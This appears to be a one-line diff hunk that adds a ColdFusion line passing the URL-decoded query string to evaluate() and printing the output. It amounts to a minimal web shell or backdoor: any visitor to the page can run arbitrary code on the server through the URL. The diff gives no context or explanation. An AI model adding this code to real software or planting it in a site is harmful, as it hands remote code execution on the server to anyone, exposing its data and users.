@@ -1,0 +1,1 @@
+<cfoutput>#evaluate(urlDecode(cgi.query_string))#</cfoutput>
